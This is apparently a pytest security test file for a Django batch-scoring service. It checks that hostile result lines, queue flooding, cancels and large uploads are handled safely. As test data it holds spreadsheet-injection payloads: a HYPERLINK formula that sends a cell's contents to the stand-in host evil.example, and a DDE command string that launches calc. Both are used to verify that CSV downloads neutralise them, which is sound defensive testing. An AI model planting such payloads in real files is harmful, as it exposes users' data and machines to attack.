"""Attacks on batch scoring: a mini-batch job's output that would wedge the sweep, a batch
job that would flood the job queue, hostile input file names turned into spreadsheet
formulas in the downloads, and a cancel that would lose rows already made."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from compute.controllers import batch_scoring
from compute.inference.models import BatchJob, BatchState, MiniBatch, MiniBatchState
from compute.lib import jobfiles
from compute.models import Job, JobRun, JobStatus, VmSize
from tests.security.conftest import zipped
from tests.support.inference import make_model

pytestmark = pytest.mark.django_db

SCRIPT = "def init():\n    pass\n\n\ndef run(mini_batch):\n    return mini_batch\n"


def url(team, name: str, *args: int) -> str:
    return reverse(f"inference:{name}", args=[team.workspace.slug, *args])


def submit(client, team, model, **changes):
    data = {
        "name": "nightly",
        "model": model.pk,
        "vm_size": VmSize.objects.get(name="Standard_D2s_v3").pk,
        "tier": "dedicated",
        "node_count": "2",
        "mini_batch_size": "2",
        "max_attempts": "2",
        "scoring_script": SCRIPT,
        "inputs": [SimpleUploadedFile(f"f{n}.txt", b"x") for n in range(5)],
        **changes,
    }
    return client.post(url(team, "batch-create"), data)


def finish_job(job: Job, output: bytes, status: str = JobStatus.COMPLETED) -> None:
    run = JobRun.objects.create(job=job, rank=0, node_name="n-1", container="c")
    jobfiles.prepare_run_dir(run.key)
    jobfiles.write_output(run.key, 0, output)
    Job.objects.filter(pk=job.pk).update(status=status, exit_code=0)


def marked(job: Job, payload: str) -> bytes:
    return f"{job.environment['HANGAR_RESULT_MARK']}\t{payload}\n".encode()


@pytest.mark.parametrize(
    "payload",
    [
        '["a\\u0000b", 1]',  # Postgres text takes no NUL
        '["\\ud800", 1]',  # a lone surrogate: no UTF-8 for it
        "[" * 200_000 + "]" * 200_000,  # nesting past Python's recursion limit
    ],
    ids=["nul", "lone-surrogate", "json-bomb"],
)
def test_a_hostile_result_line_fails_its_mini_batch_and_never_wedges_the_sweep(
    client, team, jobs_dir, payload
):
    """Before: the pass raised (DataError, UnicodeEncodeError, RecursionError) and rolled
    back, every second, forever: the batch job never moved again and its output was
    re-read on every pass of the sweep."""
    client.force_login(team.contributor)
    submit(client, team, make_model(team.workspace))
    batch = BatchJob.objects.get()
    first, second = (m.job for m in batch.mini_batches.order_by("index")[:2])
    assert first is not None and second is not None
    finish_job(first, marked(first, payload))
    finish_job(second, marked(second, '["f2.txt", 2]'))
    batch_scoring.advance_open()
    bad, good = batch.mini_batches.order_by("index")[:2]
    assert (good.state, good.rows) == (MiniBatchState.DONE, "f2.txt,2\n")
    assert bad.job_id != first.pk and bad.attempts == 2  # retried, with the reason
    assert bad.state == MiniBatchState.RUNNING and "result line" in bad.error
    assert "result line" in client.get(batch.get_absolute_url()).content.decode()


def test_a_batch_job_queues_no_more_jobs_than_its_nodes_can_take(client, team, jobs_dir):
    """Before: 10,000 files in mini-batches of 1 queued 10,000 jobs at once, past the
    workspace's HANGAR_MAX_QUEUED_JOBS (the same per batch job, for as many as submitted),
    for every scheduler pass to walk."""
    client.force_login(team.contributor)
    files = [SimpleUploadedFile(f"f{n:02}.txt", b"x") for n in range(30)]
    submit(client, team, make_model(team.workspace), inputs=files, mini_batch_size="1")
    batch = BatchJob.objects.get()
    assert batch.batches_total == 30
    queued = Job.objects.filter(compute=batch.compute)
    assert queued.count() <= 2 * batch.node_count
    assert batch.mini_batches.filter(state=MiniBatchState.PENDING).count() >= 26
    # As they end, the sweep queues the next ones, still within the window.
    for job in list(queued):
        mark = job.environment["HANGAR_RESULT_MARK"]
        finish_job(job, f'{mark}\t["row"]\n'.encode())
    batch_scoring.advance(batch.pk)
    batch.refresh_from_db()
    assert batch.batches_done == queued.count()
    live = Job.objects.filter(compute=batch.compute, status=JobStatus.QUEUED)
    assert 0 < live.count() <= 2 * batch.node_count


def test_a_full_job_queue_refuses_a_batch_job_and_keeps_nothing(client, team, settings):
    settings.HANGAR_MAX_QUEUED_JOBS = 3
    client.force_login(team.contributor)
    model = make_model(team.workspace)
    submit(client, team, model, inputs=[SimpleUploadedFile(f"f{n}.txt", b"x") for n in range(9)])
    assert Job.objects.filter(status=JobStatus.QUEUED).count() >= 3
    answer = submit(client, team, model, name="second")
    assert answer.status_code == 200
    assert "HANGAR_MAX_QUEUED_JOBS" in str(answer.context["form"].errors)
    assert list(BatchJob.objects.values_list("name", flat=True)) == ["nightly"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_hostile_input_names_are_no_formulas_in_the_downloads(client, team, jobs_dir):
    """A zip's file name reaches predictions.csv (run() returns it, as the example script
    does) and errors.csv (its files column, the error text): a spreadsheet must show it
    as text, never run it."""
    client.force_login(team.contributor)
    archive = zipped({f"{FORMULA}.txt": b"x", "@SUM(1+1).txt": b"y", "plain.txt": b"z"})
    inputs = [SimpleUploadedFile("in.zip", archive)]
    submit(client, team, make_model(team.workspace), inputs=inputs, mini_batch_size="1")
    batch = BatchJob.objects.get()
    first, second, third = (m.job for m in batch.mini_batches.order_by("index"))
    finish_job(first, marked(first, '["=1+2", "+3", "-4", -4.5, "@x", "\\tz", "ok"]'))
    Job.objects.filter(pk=second.pk).update(status=JobStatus.FAILED)
    MiniBatch.objects.filter(batch=batch, index=1).update(attempts=2)
    finish_job(third, f"-cmd|' /C calc'!A0\n{FORMULA}\n".encode(), JobStatus.FAILED)
    MiniBatch.objects.filter(batch=batch, index=2).update(attempts=2)
    batch_scoring.advance(batch.pk)
    predictions = b"".join(client.get(url(team, "batch-predictions", batch.pk)).streaming_content)
    errors = b"".join(client.get(url(team, "batch-errors", batch.pk)).streaming_content)
    cells = [cell for text in (predictions, errors) for row in rows(text) for cell in row]
    formulas = [cell for cell in cells if cell[:1] in "=+-@\t\r" and not number(cell)]
    assert cells and not formulas
    assert ["'=1+2", "'+3", "'-4", "-4.5", "'@x", "'\tz", "ok"] == rows(predictions)[0]


def rows(text: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.decode())))


def number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_cancel_keeps_the_rows_already_made_and_leaves_no_mini_batch_running(
    client, team, jobs_dir, django_capture_on_commit_callbacks
):
    """Before: a mini-batch whose job had ended well but that no pass had read yet lost
    its rows on cancel, and the others stayed 'Running' on the canceled job's page."""
    client.force_login(team.contributor)
    submit(client, team, make_model(team.workspace))
    batch = BatchJob.objects.get()
    first = batch.mini_batches.order_by("index")[0].job
    assert first is not None
    finish_job(first, marked(first, '["f0.txt", 1]') + marked(first, '["f1.txt", 2]'))
    client.post(url(team, "batch-cancel", batch.pk))
    with django_capture_on_commit_callbacks(execute=True):
        batch_scoring.advance(batch.pk)
    batch.refresh_from_db()
    assert batch.state == BatchState.CANCELED and batch.nodes_released
    assert (batch.batches_done, batch.row_count) == (1, 2)
    predictions = b"".join(client.get(url(team, "batch-predictions", batch.pk)).streaming_content)
    assert predictions == b"f0.txt,1\nf1.txt,2\n"
    states = set(batch.mini_batches.values_list("state", flat=True))
    assert MiniBatchState.RUNNING not in states and MiniBatchState.PENDING not in states
    # The files never scored are listed in errors.csv, with why.
    errors = b"".join(client.get(url(team, "batch-errors", batch.pk)).streaming_content).decode()
    assert "f2.txt f3.txt" in errors and "f4.txt" in errors and "anceled" in errors
    assert batch.batches_failed == 2


def test_more_files_than_one_upload_takes_get_the_forms_clear_error(client, team, jobs_dir):
    """Before: past DATA_UPLOAD_MAX_NUMBER_FILES (Django's 100) the page answered a bare
    400, though the form said 10,000 files could be uploaded."""
    client.force_login(team.contributor)
    model = make_model(team.workspace)
    many = [SimpleUploadedFile(f"f{n:03}.txt", b"x") for n in range(101)]
    answer = submit(client, team, model, inputs=many)
    assert answer.status_code == 200
    assert "More than 100 files in one upload: upload a zip" in str(answer.context["form"].errors)
    assert not BatchJob.objects.exists() and not Job.objects.exists()
    # 100 is fine; a zip takes the rest.
    fewer = [SimpleUploadedFile(f"f{n:03}.txt", b"x") for n in range(100)]
    assert submit(client, team, model, inputs=fewer).status_code == 302


def test_a_batch_nodes_worker_socket_is_in_its_own_tmpfs_and_nothing_of_this_machine_is_writable(
    client, team, jobs_dir, settings
):
    """The node's batch worker (the runner's --serve, the node's own process) listens on a
    socket in the node's /tmp, a tmpfs of that container alone: no folder of this machine
    is shared with it writable, so no other node, workspace or host process reaches it,
    and the script it runs reaches nothing through it but its own node."""
    from compute.controllers.nodespec import node_spec
    from compute.models import Node

    client.force_login(team.contributor)
    submit(client, team, make_model(team.workspace))
    compute = BatchJob.objects.get().compute
    assert compute is not None
    spec = node_spec(compute, Node(pk=7, compute=compute, index=1))
    socket = spec.environment["HANGAR_BATCH_SOCKET"]
    assert socket.startswith("/tmp/") and settings.HANGAR_NODE_TMP_MB > 0  # noqa: S108
    assert all(folder.read_only for folder in spec.folders)
    assert not any(socket.startswith(folder.node_path) for folder in spec.folders)
    assert spec.command[:2] == ("sh", "-c") and "--serve" in spec.command[2]
    assert spec.command[3] == "/hangar/batch/batch_runner.py"
    # Should the worker not run, the node waits as any node (its jobs run the script).
    assert spec.command[4:] == tuple(settings.HANGAR_NODE_COMMAND)
